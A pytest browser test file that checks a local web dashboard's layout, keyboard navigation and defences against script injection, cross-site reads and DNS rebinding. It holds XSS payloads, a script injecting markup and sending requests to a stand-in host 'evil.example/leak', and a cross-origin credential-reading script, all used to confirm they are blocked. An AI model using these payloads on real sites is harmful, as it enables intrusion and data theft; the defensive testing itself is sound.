"""`gyre page` in a real browser: what it shows, by keyboard and on a narrow screen, and attacks.

Needs Playwright (`make browser`) and Debian's chromium.
"""

import json
import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from gyre_client import Loader
from gyre_client.transport.arguments import order, reader
from gyre_client.transport.channel import parse_address
from gyre_client.transport.connection import Connection
from gyre_protos.v1 import loader_pb2 as pb

from tests.batches import SAMPLE_LENGTH, take
from tests.conftest import Daemon, StartDaemon
from tests.integration.commands.test_page import start_page, stop_page
from tests.waiting import until

playwright = pytest.importorskip(
    "playwright.sync_api", reason="Playwright is not installed: `make browser` adds it"
)
CHROMIUM = shutil.which("chromium")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="chromium is not installed: `apt-get install chromium` adds it"
)
DEADLINE_MS = 120_000
G = 4
EVIL = "<img src=x onerror=window.hit=1><script>window.hit=1</script>"
# A name of a shard: no slash, so no closing tag.
EVIL_NAME = "<img src=x onerror=window.hit=2>.jsonl"
# Markup that a name or a sample could bring, put into the page as a careless script would.
MARKUP = """
<img src=x onerror="window.hit=3"><p style="color:red">x</p>
<a id=link href="javascript:window.hit=4">x</a>
<iframe srcdoc="<script>parent.hit=5</script>"></iframe>
<form action="/x"><button id=send></button></form>
"""
ATTACKS = f"""() => {{
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => {{
        window.refused.push(event.effectiveDirective);
    }});
    const add = (name, value) => {{
        const script = document.createElement('script');
        script[name] = value;
        document.body.append(script);
    }};
    add('textContent', 'window.hit = 1');
    add('src', 'data:text/javascript,window.hit=2');
    document.body.insertAdjacentHTML('beforeend', {json.dumps(MARKUP)});
    document.getElementById('link').click();
    document.getElementById('send').click();
    fetch('http://evil.example/').catch(() => 0);
    new Image().src = 'http://evil.example/leak';
}}"""
# What a page of another site tries that knows the whole address.
THEFT = """async (base) => {
    const found = [];
    for (const path of ['', 'api/datasets?daemon=0', 'static/page.js']) {
        const asked = fetch(base + path, { credentials: 'include' });
        if (await asked.then((answer) => answer.text()).catch(() => null)) found.push(path);
        await fetch(base + path, { credentials: 'include', mode: 'no-cors' }).catch(() => 0);
    }
    const script = await new Promise((done) => {
        const node = document.createElement('script');
        node.onload = () => done(true);
        node.onerror = () => done(false);
        node.src = base + 'static/theme.js';
        document.body.append(node);
    });
    const frame = document.createElement('iframe');
    frame.src = base;
    document.body.append(frame);
    await new Promise((done) => { frame.onload = done; });
    let inside = null;
    try { inside = frame.contentDocument?.body?.innerText ?? null; } catch { inside = null; }
    return [found, script, inside];
}"""
STEP = "Number(document.querySelector('.job-rate').innerText.split('step ')[1])"
VIEWS = ("jobs", "samples", "order", "cost", "storage", "training")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as driver:
        names = "MAP evil.example 127.0.0.1"
        chromium = driver.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", f"--host-resolver-rules={names}"]
        )
        yield chromium
        chromium.close()


@pytest.fixture
def window(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1200, "height": 800})
    context.set_default_timeout(DEADLINE_MS)
    yield context.new_page()
    context.close()


@pytest.fixture
def served(gyred: StartDaemon, tmp_path: Path) -> Daemon:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / EVIL_NAME).write_text(json.dumps({"text": EVIL}) + "\n" * 1)
    with (tmp_path / "data" / EVIL_NAME).open("a") as file:
        file.writelines(json.dumps({"text": f"{EVIL}{each}"}) + "\n" for each in range(40))
    dataset = {"uri": str(tmp_path / "data"), "format": "jsonl", "columns": ["text"]}
    return gyred({"datasets": {"evil": dataset}})


@pytest.fixture
def entrance(served: Daemon) -> Iterator[str]:
    process, address = start_page("--daemon", served.address)
    yield address
    stop_page(process)


def errors_of(window: Any) -> list[str]:
    """Gets the errors that scripts raise and the policy's complaints, from now on."""
    found: list[str] = []
    window.on("pageerror", lambda error: found.append(str(error)))
    window.on("console", lambda line: found.extend([line.text] if line.type == "error" else []))
    return found


def enter(window: Any, entrance: str) -> None:
    """Opens the printed address, which leads on to the page."""
    window.goto(entrance, wait_until="commit")
    window.wait_for_selector("nav a")


def wait_for(window: Any, script: str, *arguments: object) -> None:
    """Waits until a script is true. Playwright's way evaluates text, which the policy forbids."""
    until(lambda: window.evaluate(script, *arguments))


def show(window: Any, view: str, wanted: str) -> None:
    window.evaluate("view => { location.hash = view; }", view)
    window.wait_for_selector(wanted)


def test_views_keys_and_names_that_are_markup(window: Any, served: Daemon, entrance: str) -> None:
    errors = errors_of(window)
    job = f"{EVIL[:32]}-job"
    with Loader("evil", batch_size=G, seed=1, job=job, address=served.address) as loader:
        batches = take(loader, 3)
        enter(window, entrance)
        window.wait_for_selector(".job")
        assert window.locator(".job-name").inner_text() == job
        window.locator("body").press("j")
        window.keyboard.press("Enter")
        window.wait_for_selector(".detail .strip button")
        window.locator(".strip button").last.click()
        window.wait_for_selector(".detail .card")
        window.keyboard.press("2")
        window.wait_for_selector(".sample pre")
        step = int(window.locator("input[type=number]").input_value())
        window.locator("body").press("ArrowLeft")
        wait_for(window, f"document.querySelector('h1')?.textContent === 'Step {step - 1}'")
        texts = window.locator(".sample pre").all_inner_texts()
        ids = batches[step - 1]["sample_id"].tolist()
        assert texts == [EVIL if each == 0 else f"{EVIL}{each - 1}" for each in ids]
        window.locator("summary").click()
        assert EVIL_NAME in window.locator("details").inner_text()
        window.keyboard.press("3")
        window.wait_for_selector("canvas.map")
        window.keyboard.press("4")
        window.wait_for_selector("tr.best, table tbody tr")
        before = window.locator("tbody").inner_text()
        window.locator("input[type=range]").nth(1).focus()
        window.keyboard.press("End")
        wait_for(window, "before => document.querySelector('tbody')?.innerText !== before", before)
        window.keyboard.press("Escape")
        show(window, "storage", ".halves .card")
        show(window, "jobs", ".job")
        last = int(window.locator(".job-rate").inner_text().split("step ")[1])
        take(loader, 5)
        wait_for(window, f"last => {STEP} > last", last)  # live, without a reload
        window.keyboard.press("?")
        assert window.locator("dialog").is_visible()
    assert window.evaluate("window.hit") is None
    assert errors == []


def test_light_dark_and_narrow(window: Any, served: Daemon, entrance: str) -> None:
    errors = errors_of(window)
    with Loader("evil", batch_size=G, job="narrow-" + "x" * 80, address=served.address) as loader:
        take(loader, 2)
        enter(window, entrance)
        window.wait_for_selector(".job")
        colours = set()
        for scheme in ("light", "dark"):
            window.emulate_media(color_scheme=scheme)
            colours.add(window.evaluate("getComputedStyle(document.body).backgroundColor"))
        window.keyboard.press("t")  # the reader's choice counts more than the system's
        colours.add(window.evaluate("getComputedStyle(document.body).backgroundColor"))
        assert len(colours) == 2
        window.set_viewport_size({"width": 360, "height": 740})
        for view in VIEWS:
            show(window, view, "main > :not(:empty):not([hidden])")
            window.wait_for_timeout(500)
            wide = window.evaluate("document.documentElement.scrollWidth")
            assert wide <= 360, f"{view} is {wide} px wide"
    assert errors == []


def test_scripts_of_others_do_not_run(window: Any, served: Daemon, entrance: str) -> None:
    enter(window, entrance)
    window.wait_for_selector("nav a")
    window.evaluate(ATTACKS)
    wanted = {"script-src-elem", "script-src-attr", "style-src-attr", "connect-src", "img-src"}
    script = "wanted => wanted.every((each) => window.refused.includes(each))"
    wait_for(window, script, sorted(wanted))
    assert window.evaluate("window.hit") is None
    assert window.evaluate("document.cookie") == "", "scripts cannot read it"


@dataclass
class OtherSite:
    """A server of another user on this machine."""

    port: int
    cookies: list[str] = field(default_factory=list)


@pytest.fixture
def other_site() -> Iterator[OtherSite]:
    site = OtherSite(0)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.cookies.append(self.headers.get("Cookie", ""))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<p>another site")

        def log_message(self, *arguments: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    site.port = server.server_port
    yield site
    server.shutdown()
    thread.join()
    server.server_close()


def test_other_sites_read_nothing_and_get_no_cookie(
    browser: Any, window: Any, entrance: str, other_site: OtherSite
) -> None:
    # A link on another site leads in, although its own request may carry no Strict cookie.
    window.goto(f"http://localhost:{other_site.port}/")
    window.evaluate("address => { location.href = address; }", entrance)
    window.wait_for_selector("nav a")
    base = window.url.partition("#")[0]
    port = base.split(":")[2].partition("/")[0]
    stranger = browser.new_context()
    for address in (entrance, base):
        assert stranger.new_page().goto(address).status == 403
    stranger.close()
    # as a name that another site has rebound to 127.0.0.1
    rebound = window.context.new_page()
    assert rebound.goto(f"http://evil.example:{port}/").status == 403
    assert rebound.goto(base.replace("127.0.0.1", "evil.example")).status == 403
    # on another port of this machine, and with the secret path known
    for host in ("127.0.0.1", "localhost"):
        rebound.goto(f"http://{host}:{other_site.port}/")
        read = rebound.evaluate(THEFT, base)
        assert read == [[], False, None], host
    assert other_site.cookies
    assert not any("gyre" in each for each in other_site.cookies)


def test_sixty_four_sessions_and_two_hundred_datasets(
    window: Any, gyred: StartDaemon, numbers_file: Path
) -> None:
    dataset = {"uri": str(numbers_file), "format": "tokens", "dtype": "int16"}
    names = [f"set-{number:03}" for number in range(200)]
    every = {name: {**dataset, "sequence_length": SAMPLE_LENGTH} for name in names}
    daemon = gyred({"datasets": every, "lease_s": 300.0})
    process, entrance = start_page("--daemon", daemon.address)
    errors = errors_of(window)
    with Connection(parse_address(daemon.address)) as connection:
        for number in range(64):
            connection.open_session(
                pb.OpenSessionRequest(
                    dataset=pb.DatasetRef(name=names[number]),
                    order=order(2, 1, 0, "wrap"),
                    reader=reader(f"job-{number:02}", 0, 1),
                    prefetch_batches=1,
                )
            )
        enter(window, entrance)
        window.wait_for_selector("text=Show all 64 jobs")
        assert window.locator(".job").count() == 40
        window.keyboard.press("/")
        window.keyboard.type("job-63")
        wait_for(window, "document.querySelectorAll('.job').length === 1")
        window.locator("input[type=search]").fill("")
        window.locator("text=Show all 64 jobs").click()
        wait_for(window, "document.querySelectorAll('.job').length === 64")
        show(window, "cost", "table")
        assert window.locator("datalist option").count() == 200
        window.locator("input[type=search]").fill("set-199")
        wait_for(window, "location.hash.includes('set-199')")
    stop_page(process)
    assert errors == []
